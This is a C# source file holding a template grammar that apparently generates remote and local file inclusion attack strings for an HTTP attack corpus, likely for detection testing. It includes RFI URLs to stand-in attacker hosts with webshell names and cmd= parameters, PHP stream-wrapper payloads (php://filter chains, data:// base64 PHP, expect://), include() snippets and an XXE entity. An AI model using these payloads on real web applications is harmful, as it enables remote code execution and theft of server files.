namespace Weir.Http.Corpus.Attacks.Other;

/// <summary>Files of other hosts and stream wrappers where a program includes a file.</summary>
/// <remarks>OWASP WSTG-INPV-11.1 and 11.2 (local and remote file inclusion), CAPEC-193, CAPEC-251, CWE-98.</remarks>
internal static class FileInclusion
{
    public const string Text = """"
        §rfi
        7× «farfile»«farcut»
        3× «rfiparam»=«farfile»«farcut»
        3× /«word»/«rand».php?«rfiparam»=«farfile»«farcut»
        2× «rfiparam»=«farfile→url»«farcut»
        2× «streamwrapper»
        «param»=«streamwrapper»
        /«word».php?«param»=«streamwrapper»
        «streamwrapper→url»
        5× «rfiurl»«rficut»
        4× «param»=«rfiurl»«rficut»
        3× /«word».php?«rfiparam»=«rfiurl»«rficut»
        2× «rfiparam»=«rfiurl»«rficut»
        data:text/plain,<?php «phpbody» ?>
        data://text/plain;base64,«phpcode→b64»
        php://input«¦%00»
        expect://«shellcmd»
        \\«evilhost»\«word»\«rand».php
        «rfiurl→url»
        ¶ A script of another host: the host says nothing; the end that cuts off what the program appends does.
        §farfile
        4× «http¦http¦https¦ftp»://«farhost»«¦¦:«port»»/«farname»
        2× «http¦https»://«farhost»«¦:«port»»/«word»/«farname»
        «hTTp¦HTTP¦Http¦fTp¦FTP»://«farhost»/«farname»
        //«farhost»/«farname»
        «httplit»:«\¦/¦\/»«farhost»/«farname»
        §farhost
        4× «privateip»
        3× «ip»
        3× «letter*4-10».«tld»
        3× «word».«letter*4-8».«tld»
        2× «evilhost»
        «google¦example¦«letter*4-8»».«com¦org»
        127.0.0.1
        localhost
        §farname
        4× «letter*4-14»«¦«#0-99»»
        3× «letter*3-9»«#0-9»«letter*2-6»
        3× «shellname».«txt¦txt¦php¦gif¦jpg¦inc¦dat¦pl¦png¦bmp¦asp¦jsp¦html»
        2× «letter*3-9».«txt¦php¦gif¦jpg¦inc¦pl»
        §farcut
        8× ?
        4× ??
        2× ???
        3× %00
        2× \x00
        2× ?\x00
        ?%00
        ?'
        ??cmd=«shellcmd→plus»
        ?cmd=«shellcmd→plus»
        ?&cmd=«shellcmd→plus»
        ?&«letter»=
        ?#
        ?=
        ?;
        %23
        %3F
        .php?
        ␀
        ?«letter*3-8»=«shellcmd→plus»
        ?%20
        §streamwrapper
        4× php://filter/«filterchain»/resource=«filterfile»
        2× php://filter/«read=¦write=¦»«filterone»|«filterone»/resource=«filterfile»
        php://filter/«filterone»/«filterone»/«filterone»/resource=«data:«¦//»,¦data://text/plain;base64,»«phpcode→b64»
        php://filter/convert.iconv.«charset».«charset»|«iconvstep*2-6»«¦convert.base64-decode|»convert.base64-«encode¦decode»/resource=php://temp
        php://«input¦stdin¦fd/«#3-9»¦memory¦temp»«¦%00¦?»
        2× data:«¦//»text/«plain¦html»;base64,«phpcode→b64»
        2× data:«¦//»text/plain,<?«php ¦=»«phpbody»«?>¦»
        data:,<?«php ¦=»«phpbody»?>
        data:application/x-httpd-php;base64,«phpcode→b64»
        data:;base64,«phpcode→b64»
        2× expect://«shellcmd»
        expect://«shellcmd→ifs»
        2× «zip¦phar¦compress.zlib¦compress.bzip2¦rar¦ogg¦ssh2.exec¦glob»://«¦/»«word».«zip¦jpg¦phar¦gz¦png»«#¦%23»«word»«.php¦»
        phar://«./¦/tmp/¦»«word».«phar¦jpg¦zip¦png»/«word».«txt¦php»
        «phpfilterlit→case»convert.base64-encode/resource=«filterfile»
        «filter¦php»:/«filterchain»/resource=«filterfile»
        file://«unixfile»
        §phpfilterlit
        php://filter/
        §filterchain
        3× «read=¦»convert.base64-«encode¦decode»
        2× «read=¦write=¦»string.«rot13¦toupper¦tolower¦strip_tags»
        zlib.«deflate¦inflate»/convert.base64-encode
        «read=¦»convert.«quoted-printable-encode¦iconv.utf-8.utf-16¦iconv.UTF8.UTF7»
        §filterone
        «convert.base64-encode¦convert.base64-decode¦string.rot13¦string.toupper¦zlib.deflate¦zlib.inflate¦bzip2.compress¦convert.iconv.utf-8.utf-16»
        §filterfile
        3× «index¦config¦login¦admin¦wp-config¦db¦«word»».php
        2× «index¦config¦login¦«word»»
        2× «unixfile»
        ../«../¦»«word».php
        ./«word».php
        §charset
        «UTF8¦UTF16¦CSISO2022KR¦ISO-IR-«#90-160»¦UCS-2LE¦UCS-2BE¦L«#1-9»¦CP«#850-1250»¦R9¦IBM«#800-999»¦UTF-7¦SE2¦BIG5»
        §iconvstep
        convert.iconv.«charset».«charset»|
        §rfiparam
        4× «letter*3-10»«_¦»«path¦dir¦root¦inc¦file¦lib¦page¦conf»
        2× «letter*3-8»[«letter*3-9»]
        «absolute_path¦script_path¦include_dir¦path_to_code¦class_dir¦base_path¦site_root¦template_dir¦document_root¦page¦include¦load¦display¦main¦chemin¦sourcedir¦dirname»
        «mosConfig_absolute_path¦GALLERY_BASEDIR¦phpbb_root_path¦root_path¦basepath¦include_path¦_SERVER[DOCUMENT_ROOT]¦CONFIG[path]¦GLOBALS[mosConfig_absolute_path]¦dir¦inc¦abs_path¦base_dir¦lang¦theme¦skin_file¦cfg_dir¦libpath¦incl¦class_path¦module_root_path¦lm_absolute_path¦_CONF[path]»
        «word»_«path¦dir¦root¦file»
        §rfiurl
        5× «http¦https¦ftp»://«evilhost»«¦/«word»»/«shellname».«txt¦txt¦php¦gif¦jpg¦dat¦inc¦jsp»
        2× «http¦ftp»://«evilhost»/«shellname»
        «hTTp¦HTTP¦hxxp¦ftp¦ftps¦//»://«evilhost»/«shellname».txt
        //«evilhost»/«shellname».«txt¦php»
        «httplit»://«evilhost»/«shellname».«txt¦php»?«cmd¦c»=«shellcmd→plus»
        §httplit
        http
        §shellname
        3× «shell¦cmd¦c99¦r57¦evil¦inc¦id¦test¦«rfi»¦injek¦bot¦safe¦echo¦tool25¦idxx¦response¦pwn¦backdoor¦readme»
        «rand»
        §rficut
        4× ?
        4×
        3× ??
        2× %00
        2× ???
        «?&cmd=«shellcmd→plus»¦?cmd=id¦%3f¦%23¦#¦%00.php¦?«letter»=¦&cmd=«shellcmd→plus»¦?%00»
        §lfiextra
        2× «param»=«php://filter/convert.base64-encode/resource=«word»¦data:text/plain,<?php «phpbody»?>¦expect://«shellcmd»¦«evilurl»?¦php://input»
        «php¦zip¦phar¦data¦compress.zlib¦glob¦expect¦input»://«filter/read=string.rot13/resource=«word».php¦«evilhost»/«rand».txt¦text/plain;base64,«phpcode→b64»»
        «include¦require¦include_once¦require_once»«(¦ »'««evilurl»¦«unixfile»»'«)¦»;
        <?php «include¦require»("««evilurl»¦«unixfile»»");?>
        <!ENTITY x SYSTEM "«evilurl»">
        """";
}
